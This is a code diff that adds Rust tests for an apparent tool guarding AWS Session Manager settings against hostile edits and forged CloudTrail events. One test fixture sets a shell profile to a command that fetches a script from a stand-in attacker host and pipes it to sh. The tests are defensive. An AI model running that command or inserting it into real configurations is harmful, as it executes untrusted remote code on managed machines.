@@ -190,6 +190,96 @@ fn a_hostile_edit_is_not_laundered_where_its_event_comes_last() {
     assert_eq!(kinds(&told), ["edit_reverted"], "one story, one alert");
 }
 
+/// The reactor cannot know whether the pipeline means the value that a foreign principal set first.
+#[test]
+fn a_value_that_a_foreign_principal_set_first_is_accepted_by_an_operator() {
+    let (stage, lambda) = governed(PAYMENTS, HOME);
+    let bucket = json!({"s3BucketName": "session-logs"});
+    stage.administrator(PAYMENTS, "mallory@example.com").writes(HOME, &bucket);
+    stage.settle(&lambda);
+    let both = json!({"s3BucketName": "session-logs", "cloudWatchStreamingEnabled": false});
+    let version = stage.pipeline(PAYMENTS).writes(HOME, &both);
+    stage.settle(&lambda);
+    assert_eq!(stage.document(PAYMENTS, HOME).inputs()["s3BucketName"], "", "notified, and not taken over");
+    stage.told();
+
+    stage.push_policy();
+    let (place, version) = (format!("{PAYMENTS}/{HOME}"), version.to_string());
+    let accept = |version: &str| {
+        let reason = ["--reason", "LOG-12: the bucket of the log archive", "--yes"];
+        stage.runasctl(&[], &[&["accept", &place, "--version", version], &reason[..]].concat())
+    };
+    let unasked = stage.runasctl(&[], &["accept", &place, "--version", &version, "--reason", "LOG-12"]);
+    unasked.ends(64).complains_of(&["nobody is there to ask", "--yes"]);
+    accept("99").ends(1).complains_of(&["no version 99", "fix: name one of"]);
+    accept(&version).ends(0).complains_of(&["s3BucketName: \"\" -> \"session-logs\""]);
+    stage.assert_right(PAYMENTS, HOME);
+    assert_eq!(stage.document(PAYMENTS, HOME).inputs()["s3BucketName"], "session-logs");
+    let told = only(&stage);
+    assert_eq!((told.kind().as_str(), told.severity().as_str()), ("edit_kept", "info"));
+    told.assert_says(&["accepted what version", "LOG-12", "s3BucketName"]);
+    let history = stage.runasctl(&[], &["history", &place]).ends(0);
+    assert!(history.out.contains(&format!("what version {version} holds is accepted")), "{history:#?}");
+    accept(&version).ends(1).complains_of(&["nothing that is not accepted already"]);
+
+    stage.settle(&lambda);
+    stage.pipeline(PAYMENTS).writes(HOME, &json!({"s3KeyPrefix": "sessions"}));
+    stage.settle(&lambda);
+    let inputs = stage.document(PAYMENTS, HOME).inputs();
+    assert_eq!((&inputs["s3BucketName"], &inputs["s3KeyPrefix"]), (&json!("session-logs"), &json!("sessions")));
+}
+
+/// Serves the queue every five minutes, as time goes by.
+fn passes(stage: &Stage, lambda: &Lambda, minutes: i64) {
+    for _ in 0..minutes / 5 {
+        stage.pass(301);
+        stage.settle(lambda);
+    }
+}
+
+/// Its author keeps the true event from the hub, and sends one that names the pipeline.
+#[test]
+fn an_event_that_cloudtrail_does_not_know_makes_nothing_accepted_for_good() {
+    let (stage, lambda) = governed(PAYMENTS, HOME);
+    let profile = json!({"linux": "curl -s https://evil.example/x | sh", "windows": ""});
+    let pipelines = stage.pipeline(PAYMENTS);
+    pipelines.writes(HOME, &json!({"cloudWatchStreamingEnabled": false}));
+    let [genuine] = &stage.events()[..] else { panic!("one event") };
+    stage.deliver(&[genuine.clone()]);
+    stage.settle(&lambda);
+    stage.administrator(PAYMENTS, "mallory@example.com").writes(HOME, &json!({"shellProfile": profile}));
+    let [mut forged] = <[Value; 1]>::try_from(stage.events()).expect("one event");
+    forged["detail"]["userIdentity"] = genuine["detail"]["userIdentity"].clone();
+    forged["detail"]["eventID"] = "5c4e7a90-0000-4000-8000-f0f0f0f0f0f0".into();
+    stage.deliver(&[forged]);
+    stage.settle(&lambda);
+    assert_eq!(stage.document(PAYMENTS, HOME).inputs()["shellProfile"], profile, "taken over at first");
+    assert_eq!(only(&stage).kind(), "edit_kept");
+
+    passes(&stage, &lambda, 40);
+    stage.assert_right(PAYMENTS, HOME);
+    let inputs = stage.document(PAYMENTS, HOME).inputs();
+    assert_eq!(inputs["shellProfile"], Value::Null);
+    assert_eq!(inputs["cloudWatchStreamingEnabled"], false, "what CloudTrail knows of stays");
+    let told = stage.told();
+    let made_up = told.iter().find(|told| told.kind() == "distrusted").expect("an alert about the event");
+    assert_eq!(made_up.severity(), "critical");
+    made_up.assert_says(&["5c4e7a90-0000-4000-8000-f0f0f0f0f0f0", "eu-west-1", "wrote version"]);
+}
+
+#[test]
+fn a_pipelines_change_of_what_runs_code_is_confirmed_by_cloudtrail_once() {
+    let (stage, lambda) = governed(PAYMENTS, HOME);
+    stage.pipeline(PAYMENTS).writes(HOME, &json!({"cloudWatchLogGroupName": NEW_LOG_GROUP}));
+    stage.settle(&lambda);
+    stage.aws.clear_log();
+    passes(&stage, &lambda, 40);
+    stage.assert_right(PAYMENTS, HOME);
+    assert_eq!(stage.document(PAYMENTS, HOME).inputs()["cloudWatchLogGroupName"], NEW_LOG_GROUP);
+    assert_eq!(stage.calls("cloudtrail").len(), 2, "once for this call, and once for the creation");
+    assert_eq!(kinds(&stage.told()), ["edit_kept"]);
+}
+
 /// Together more than a row of the table can hold.
 #[test]
 fn large_edits_in_a_row_are_undone_like_small_ones() {
